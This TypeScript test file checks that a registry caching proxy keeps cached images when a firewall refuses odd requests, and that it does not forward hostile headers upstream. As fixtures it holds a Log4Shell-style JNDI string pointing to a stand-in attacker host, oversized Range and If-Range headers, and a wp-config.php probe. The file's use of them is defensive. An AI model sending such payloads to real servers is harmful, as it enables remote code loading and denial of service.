// S18: one odd request, refused by a firewall in front of the registry, says nothing about the repository.
import { describe, expect, it } from "vitest";
import type { Handler, Outgoing } from "../internet.ts";
import { answerWith, imageDocument, isKept, MINUTE, OCI_IMAGE, passTime, SECOND } from "./stage.ts";
import { outage, refusal, UNKNOWN_BLOB, Warm } from "./warm.ts";

type Odd = readonly [what: string, path: string, headers: Record<string, string>];

const ODD: readonly Odd[] = [
  ["an Accept of ${jndi:…}", "manifests/latest", { Accept: "${jndi:ldap://attacker.example/a}" }],
  ["an overlong Range on a blob", `blobs/${UNKNOWN_BLOB}`, { Range: `bytes=${"0-1,".repeat(1500)}0-1` }],
  [
    "an overlong If-Range on a blob",
    `blobs/${UNKNOWN_BLOB}`,
    { Range: "bytes=0-1", "If-Range": `"${"x".repeat(6000)}"` },
  ],
  ["the tag wp-config.php", "manifests/wp-config.php", {}],
  ["a tag that alone answers 403", "manifests/forbidden", {}],
];

function isOdd({ headers, url }: Outgoing): boolean {
  const words = [headers.get("Accept"), headers.get("Range"), headers.get("If-Range")].join(" ");
  return words.includes("jndi") || words.length > 1000 || /wp-config\.php$|forbidden$/.test(url.pathname);
}

/** A block page, and what looks like a registry's own word. */
const NOS: readonly (readonly [string, string, string])[] = [
  ["JSON", "application/json", '{"errors":[{"code":"DENIED","message":"forbidden"}]}'],
  ["a page", "text/html", "<html>Blocked</html>"],
];

interface Case {
  readonly what: string;
  readonly how: string;
  readonly quota: string;
  readonly ask: (warm: Warm) => Promise<unknown>;
  readonly registry: (warm: Warm) => Handler;
}

const CASES: Case[] = ["left", "used up"].flatMap((quota) =>
  NOS.flatMap(([how, type, body]) =>
    ODD.map(([what, path, headers]) => ({
      what,
      how,
      quota,
      ask: (warm: Warm) => warm.get(path, headers),
      registry: (warm: Warm) => (request: Outgoing) => {
        const { method, url } = request;
        const isHead = method === "HEAD";
        if (isOdd(request)) {
          return new Response(isHead ? null : body, { status: 403, headers: { "Content-Type": type } });
        }
        const isCounted = !isHead && url.pathname.includes("/manifests/");
        return quota === "used up" && isCounted
          ? Response.json({ errors: [] }, { status: 429, headers: { "Retry-After": "60" } })
          : warm.registry(request);
      },
    })),
  ),
);

describe("F1: a firewall refuses what one client composed (S18)", () => {
  it.each(CASES)("$what, by $how, with the quota $quota: the warm image stays", async ({ ask, registry }) => {
    const warm = await Warm.open();
    warm.played.serve = registry(warm);
    passTime(6 * MINUTE);
    for (const pause of [0, 11 * SECOND, 10 * MINUTE]) {
      passTime(pause);
      await ask(warm);
      expect(await warm.pull()).toEqual(new Set(["hit"]));
    }
    // Without a pull between, which would prove it again: and then the registry is away.
    for (const pause of [6 * MINUTE, 11 * SECOND, 10 * MINUTE]) {
      passTime(pause);
      await ask(warm);
    }
    passTime(6 * MINUTE);
    warm.played.serve = outage;
    expect(await warm.pull()).toEqual(new Set(["stale"]));
  });

  it("whoever asked for the refused tag hears it each time, and nobody else does", async () => {
    const warm = await Warm.open();
    warm.played.serve = (request) =>
      isOdd(request) ? Response.json({ errors: [] }, { status: 403 }) : warm.registry(request);
    for (const pause of [0, SECOND, 11 * SECOND, 10 * MINUTE]) {
      passTime(pause);
      expect((await warm.get("manifests/forbidden")).status).toBe(401);
      expect(await warm.source("manifests/second")).toBe("hit");
    }
  });
});

describe("S18: our own words", () => {
  it("an overlong Range or If-Range does not travel, and a blob's Accept is not the client's", async () => {
    const warm = await Warm.open();
    const odd = { Accept: "${jndi:x}", Range: `bytes=${"0-1,".repeat(3000)}0-1`, "If-Range": '"x"' };
    await warm.get(`blobs/${UNKNOWN_BLOB}`, odd);
    await warm.get(`manifests/sha256:${"8".repeat(64)}`, { Accept: "${jndi:x}" });
    const asked = warm.played.internet.to(warm.played.origin);
    const words = asked.flatMap(({ headers }) => [...headers.values()]).join("\n");
    expect(words).not.toContain("jndi");
    expect(warm.played.asked("GET", UNKNOWN_BLOB).map(({ headers }) => headers.get("Range"))).toEqual([null]);
    expect(asked.filter(({ headers }) => headers.has("If-Range"))).toEqual([]);
  });
});

describe("S18: where the client's own words travelled, nothing is concluded", () => {
  const OWN: readonly Odd[] = [
    ["an Accept that is not known", "manifests/latest", { Accept: "application/vnd.example.v1+json" }],
    ["an Accept with weights", "manifests/latest", { Accept: `${OCI_IMAGE};q=0.5` }],
    ["several ranges", `blobs/${UNKNOWN_BLOB}`, { Range: "bytes=0-1,3-4" }],
  ];

  it.each(OWN)(
    "from a refusal of %s: no witness is asked, and nothing is noted",
    async (_, path, headers) => {
      const warm = await Warm.open();
      passTime(6 * MINUTE);
      warm.played.serve = refusal;
      for (const pause of [0, 11 * SECOND]) {
        passTime(pause);
        expect(await warm.source(path, headers)).toBe("401");
      }
      expect(warm.witnessesAsked()).toBe(0);
      warm.played.serve = outage;
      expect(await warm.pull()).toEqual(new Set(["stale"]));
    },
  );

  it.each(OWN.slice(0, 2))("from a success of %s: it is no proof", async (_, path, headers) => {
    const warm = await Warm.open({}, {}, []);
    const document = await imageDocument("odd");
    warm.played.serve = (request) => answerWith(document, request);
    for (const method of ["HEAD", "GET"]) {
      expect((await warm.get(path, headers, method)).headers.get("Docker-Content-Digest")).toBe(
        document.digest,
      );
    }
    // Its manifest was asked for by digest, in our own words; that is one.
    expect(await isKept(await warm.played.keyUrl("tag", "latest"))).toBe(false);
    const only = await Warm.open({}, {}, []);
    only.played.serve = (request) => answerWith(document, request);
    await only.get(path, headers, "HEAD");
    expect(await isKept(await only.played.keyUrl("proof"))).toBe(false);
  });
});
